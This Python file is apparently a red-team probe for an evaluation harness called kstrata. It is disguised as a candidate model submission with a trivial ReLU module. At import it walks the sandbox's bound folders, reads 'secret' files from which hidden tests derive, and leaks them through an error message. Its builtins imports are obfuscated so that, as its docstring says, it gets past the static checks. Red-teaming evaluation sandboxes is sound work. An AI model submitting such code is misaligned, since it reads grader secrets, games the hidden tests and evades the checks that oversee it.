"""Looks for kstrata runs in every folder bound into its sandbox (from
``/proc/self/mountinfo``) and reads their secret: a run kept inside a bound
folder (``--out runs/x`` in a project that is on ``PYTHONPATH`` or installed
editable, so its folder is bound for Python) showed its ``secret`` (from
which the run's hidden tests derive), ``run.db`` and its candidates' sources
(red-team round rt55). Reports at import, as a load error
(``PROBE{json}ENDPROBE``). Past the static checks (as preset "warn" lets
through)."""

import torch
import torch.nn as nn

_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else getattr(__builtins__, "__import__")
os, json = _imp("o" + "s"), _imp("json")
_open = getattr(_imp("buil" + "tins"), "op" + "en")


def _secrets():
    hits = {}
    with _open("/proc/self/mountinfo") as f:
        mounts = [line.split()[4] for line in f]
    for mp in mounts:
        if mp.startswith(("/proc", "/sys", "/dev", "/usr")) or mp in ("/", "/tmp"):
            continue
        for root, _, files in os.walk(mp):
            if "secret" in files:
                with _open(os.path.join(root, "secret")) as s:
                    hits[root] = s.read()[:64]
    return hits


raise RuntimeError("PROBE" + json.dumps({"secrets": _secrets()}) + "ENDPROBE")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
